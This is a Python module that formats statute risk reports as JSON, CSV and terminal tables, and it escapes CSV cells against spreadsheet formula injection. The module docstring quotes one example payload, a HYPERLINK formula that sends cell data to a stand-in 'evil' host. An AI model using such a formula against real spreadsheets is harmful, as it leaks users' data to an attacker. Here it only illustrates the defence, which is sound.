"""Statute report formats other than HTML: JSON, CSV and a terminal table.

Input: a statute report document (:func:`provrisk.score.report.score_ingested`).
Output: a string (JSON, CSV) or a rich renderable (table).

Every CSV provrisk writes passes each cell through :func:`spreadsheet_safe`:
a statute's words are not trusted, and a spreadsheet would run a cell such as
``=HYPERLINK("http://evil/?"&A1,"x")`` as a formula. Every string the table
shows from a statute or a file name is a :class:`~rich.text.Text`, which rich never reads as markup.
"""

from __future__ import annotations

import csv
import io
import json

from rich.table import Table
from rich.text import Text

# OWASP, "CSV Injection": a cell a spreadsheet may read as a formula starts with one of
# these (the fullwidth forms too: some spreadsheets fold them to ASCII).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
CSV_COLUMNS = [
    "instrument_id", "citation", "kind", "heading", "label", "name", "probability", "evidence", "standard", "text",
    "annotations",
]


def report_json(document: dict) -> str:
    return json.dumps(document, ensure_ascii=False, indent=2) + "\n"


def spreadsheet_safe(cell):
    """A CSV cell that no spreadsheet reads as a formula: one whose first character, or first after
    leading spaces and line breaks, would start a formula gets a leading ``'`` (OWASP's advice).
    Anything but a string is returned as it is."""
    if isinstance(cell, str) and cell and (cell[0] in FORMULA_TRIGGERS or cell.lstrip(" \n\r\t")[:1] in FORMULA_TRIGGERS):
        return "'" + cell
    return cell


class _SafeDictWriter(csv.DictWriter):
    def writerow(self, rowdict):
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})


def not_assessed_label(document: dict) -> str:
    """The words every output shows in place of a risk figure for a statute the model cannot read."""
    return f"not assessed (language: {document['assessment']['language']})"


def profile_summary(document: dict) -> str:
    """One line on the whole statute: "3 of 20 provisions flagged, risk index 12.5/100", or why it was not assessed."""
    profile = document["profile"]
    if not document["assessment"]["assessed"]:
        return f"{profile['provisions']} provisions, {not_assessed_label(document)}: {document['assessment']['reason']}"
    return f"{profile['flagged']} of {profile['provisions']} provisions flagged, risk index {profile['risk_index']:.1f}/100"


def report_csv(document: dict) -> str:
    """One row per (provision, predicted label); a provision with no label gets one row with an empty label.

    A statute that was not assessed gets one row per provision whose label cell says so.
    """
    out = io.StringIO()
    writer = _SafeDictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n")
    writer.writeheader()
    instrument_id = document["instrument"]["id"]
    unassessed = "" if document["assessment"]["assessed"] else not_assessed_label(document)
    for provision in document["provisions"]:
        base = {
            "instrument_id": instrument_id,
            "citation": provision["citation"],
            "kind": provision["kind"],
            "heading": provision["heading"],
            "text": provision["text"],
            "annotations": " | ".join(provision.get("annotations", [])),
        }
        if not provision["flags"]:
            writer.writerow({**base, "label": unassessed, "name": "", "probability": "", "evidence": "", "standard": ""})
        for flag in provision["flags"]:
            writer.writerow(
                {
                    **base,
                    "label": flag["label"],
                    "name": flag["name"],
                    "probability": f"{flag['probability']:.3f}",
                    "evidence": " | ".join(flag["evidence"]),
                    "standard": flag["standard"],
                }
            )
    return out.getvalue()


def report_table(document: dict, show_unflagged: bool = False) -> Table:
    """One row per flag: citation, label, probability, quoted trigger words, the standard engaged."""
    table = Table(title=Text(f"{document['instrument']['source']}: {profile_summary(document)}"), expand=True)
    table.add_column("citation", no_wrap=True)
    table.add_column("label", ratio=2)
    table.add_column("p", justify="right", no_wrap=True)
    table.add_column("trigger words", ratio=3)
    table.add_column("standard engaged", ratio=4)
    for provision in document["provisions"]:
        if not provision["flags"]:
            if show_unflagged:
                table.add_row(Text(provision["citation"]), "–", "", "", "", end_section=True)
            continue
        for position, flag in enumerate(provision["flags"]):
            table.add_row(
                Text(provision["citation"]) if position == 0 else "",
                flag["label"],
                f"{flag['probability']:.2f}",
                Text("; ".join(f'"{quote}"' for quote in flag["evidence"][:3])),
                Text(flag["standard"]),
                end_section=position == len(provision["flags"]) - 1,
            )
    return table


def profile_table(document: dict) -> Table:
    """Counts per label over the statute ("not assessed (language: ..)" in every cell of one that was not)."""
    profile = document["profile"]
    table = Table(title="statute profile")
    table.add_column("label")
    table.add_column("provisions", justify="right")
    if not document["assessment"]["assessed"]:
        for label in document["labels"]:
            table.add_row(label["id"], not_assessed_label(document))
        table.add_row("risk index", not_assessed_label(document))
        return table
    for label in document["labels"]:
        table.add_row(label["id"], str(profile["label_counts"][label["id"]]))
    table.add_row("share flagged", f"{profile['share_flagged']:.0%}")
    table.add_row("risk index", f"{profile['risk_index']:.1f}")
    return table
